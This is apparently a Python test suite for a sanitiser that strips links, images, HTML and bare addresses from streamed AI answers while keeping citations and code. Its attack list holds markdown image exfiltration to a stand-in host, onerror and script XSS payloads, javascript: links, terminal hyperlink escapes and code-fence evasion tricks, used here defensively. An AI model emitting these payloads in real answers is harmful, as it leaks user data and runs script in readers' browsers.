"""What an answer may contain: text, code and citations, and nothing that a renderer makes a link, an image or HTML."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given, settings, strategies as st
from markdown_it import MarkdownIt

from latent_core.ask.sanitise import AnswerSanitiser

SOURCES = (1, 2, 3)
RENDERED = MarkdownIt("commonmark").enable("table")
ELEMENT = re.compile(
    r"<(?!/?(?:p|ul|ol|li|pre|code|blockquote|h[1-6]|em|strong|hr|br|table|thead|tbody|tr|th|td)\b)"
)
BARE = re.compile(r"(?i)https?://\w|ftp://\w|\bwww\.\w|mailto:\w|\w@\w+\.\w")


def sanitised(*pieces: str) -> str:
    sanitiser = AnswerSanitiser(SOURCES)
    return "".join(sanitiser.feed(piece) for piece in pieces) + sanitiser.finish()


def without_code(html: str) -> str:
    return re.sub(r"(?s)<code.*?</code>", "", html)


def is_harmless(text: str) -> bool:
    """No element but those of text and code, and no address outside code, which some renderers link."""
    html = RENDERED.render(text)
    return not ELEMENT.search(html) and not BARE.search(without_code(html))


ATTACKS = (
    "![x](http://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "[click][1]\n\n[1]: http://evil.example",
    "[1]\n\n[1]: http://evil.example 'title'",
    "![1][1]\n\n> [1]: http://evil.example",
    "- [a]: http://evil.example\n\n[a]",
    "<http://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<a href='http://evil.example'>x</a>",
    "<!-- --><script>alert(1)</script>",
    "see http://evil.example/x, or www.evil.example.",
    "mail me@evil.example or mailto:me@evil.example",
    "http[9]://evil.example and www[9].evil.example and www [9].evil.example",
    "[a][9](http://evil.example) ![9][1] <[9]img src=x>",
    "http&#58;//evil.example &lt;img src=x&gt; &[9]lt;b&gt;",
    "http\\://evil.example me\\@evil.example [a\\](http://evil.example)",
    "`a` ``b` [x](http://evil.example) `c``",
    "\\`[x](http://evil.example)`",
    "\\\\`[x](http://evil.example)`",
    "a `b [x](http://evil.example)\n\nc` d",
    "| a | b |\n|---|---|\n| `x | [y](http://evil.example) ` |",
    "[`x]: http://evil.example\n\n[`x]",
    "```\n```\n[x](http://evil.example)",
    "````\n```\n[x](http://evil.example)\n````\n[y](http://evil.example)",
    "- a\n\n      ```\n\n```\n[x](http://evil.example)\n```\n[y](http://evil.example)",
    "> ```\n[x](http://evil.example)\n> ```\n![y](http://evil.example)",
    "1. a\n\n   ```\nb\n   ```\n[x](http://evil.example)",
    "~~~ `\n[x](http://evil.example)\n~~~\n![x](http://evil.example)",
    "``` `x`\n[x](http://evil.example)",
    "    [x]: http://evil.example\n\n[x]",
    "[x]\\: http://evil.example\n\n[x]",
    "[1](javascript:alert(1)) [a](<javascript:alert(1)>)",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "`http://a``b` [x](http://evil.example) ``",
    "[9]~~~\n\n~~~\n[x](http://evil.example)",
    "<`me@evil> ` <=me@evil> <a!me@evil>",
    "http://evil.example`a`http://evil.example``b``",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_plain_text_wherever_it_is_split(attack: str) -> None:
    whole = sanitised(attack)
    assert is_harmless(whole), whole
    assert "\x1b" not in whole
    assert sanitised(*attack) == whole
    for at in range(len(attack)):
        assert sanitised(attack[:at], attack[at:]) == whole


def test_citations_appended_by_a_client_cannot_make_an_image_or_another_link() -> None:
    definitions = "\n\n[1]: http://gateway.example/page/1\n"
    html = RENDERED.render(
        sanitised("Great![1] See [1](http://evil.example), [1][2].") + definitions
    )
    assert set(re.findall(r'href="([^"]*)"', html)) == {"http://gateway.example/page/1"}
    assert "<img" not in html


FRAGMENTS = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "``",
        "```",
        "~~~",
        "\\",
        "|",
        "&",
        ":",
        "\n",
        "\n\n",
        " ",
        "    ",
        "- ",
        "> ",
        "http://evil.example",
        "www.evil.example",
        "a",
        "img src=x",
        "[1]",
        "[9]",
        "[x]: ",
        "](",
        "&#58;",
        "me@evil.example",
        "//",
    ]
)
PIECES = st.lists(FRAGMENTS, max_size=24)


@settings(max_examples=600, deadline=None)
@given(PIECES, st.lists(st.integers(0, 300), max_size=6))
def test_any_text_is_harmless_and_the_same_however_it_is_split(
    pieces: list[str], cuts: list[int]
) -> None:
    text = "".join(pieces)
    whole = sanitised(text)
    assert is_harmless(whole), whole
    places = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    assert sanitised(*(text[a:b] for a, b in itertools.pairwise(places))) == whole
    assert sanitised(*text) == whole


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("The valve closes at 7 bar [1].", "The valve closes at 7 bar [1]."),
        ("Both [1, 3] say so [2][3].", "Both [1] [3] say so [2] [3]."),
        ("Not [9]. Nor [0, 12], but [1, 9].", "Not. Nor, but [1]."),
        (
            "Use `curl http://localhost:7801/x` and `a[0](b)`.",
            "Use `curl http://localhost:7801/x` and `a[0](b)`.",
        ),
        (
            "```sh\ncurl -H 'a: <b>' http://x/[1](y)\n```\n",
            "```sh\ncurl -H 'a: <b>' http://x/[1](y)\n```\n",
        ),
        ("If x < y && y > 2, AT&T! x <= y", "If x < y && y > 2, AT&T! x < = y"),
        ("Open http://localhost:7801.", "Open `http://localhost:7801`."),
        (
            "**Bold**, _soft_, 1. one\n- two\n\n| a | b |\n|---|---|\n",
            "**Bold**, _soft_, 1. one\n- two\n\n| a | b |\n|---|---|\n",
        ),
        ("Straße, 東京 [2]。", "Straße, 東京 [2]。"),
        ("```\nopen", "```\nopen\n```"),
    ],
)
def test_ordinary_text_stays_as_it_is(written: str, expected: str) -> None:
    assert sanitised(written) == expected
    assert sanitised(*written) == expected


def test_only_citations_of_sources_that_the_text_names_count() -> None:
    sanitiser = AnswerSanitiser(SOURCES)
    sanitiser.feed("Yes [2], no [9], `[1]` in code.\n```\n[3]\n```\n")
    sanitiser.finish()
    assert sanitiser.cited == {2}


def test_text_is_passed_on_before_the_answer_ends() -> None:
    sanitiser = AnswerSanitiser(SOURCES)
    assert sanitiser.feed("The valve clo") == "The valve "
    assert sanitiser.feed("ses [1] at") == "closes [1] "
